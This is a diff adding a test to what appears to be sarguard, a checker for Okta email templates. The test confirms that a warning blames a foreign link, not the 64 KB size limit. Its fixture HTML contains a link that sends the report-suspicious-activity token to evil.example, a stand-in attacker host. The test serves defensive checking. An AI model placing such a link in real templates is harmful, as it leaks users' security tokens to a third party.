@@ -239,3 +239,16 @@ def test_fix_marks_a_default_when_the_live_one_cannot_be_declared(emulator, proj
         ("changed", f"brand/default/template/{NEW_SIGN_ON}/customization/fr", "isDefault"),
         ("unmanaged", f"brand/default/template/{NEW_SIGN_ON}/customization/en-AU", "customization"),
     ]
+
+
+def test_a_body_that_hands_the_token_elsewhere_is_not_blamed_on_the_size_limit():
+    """Adding sarguard's link block cannot fix a body that also sends the token to another site
+    (SAR-03 fails it either way): the warning says so instead of naming Okta's 64 KB limit, which
+    it names only when size is the reason."""
+    from sarguard.adopt.fixes import _why_no_link
+
+    foreign = ('<html><body><a href="https://evil.example/?t=${request.reportSuspiciousActivityToken}">'
+               "report</a></body></html>")
+    why = _why_no_link(foreign)
+    assert "still fails" in why and "evil.example" in why and "64 KB" not in why
+    assert "64 KB" in _why_no_link("<html><body>" + "x" * 70_000 + "</body></html>")
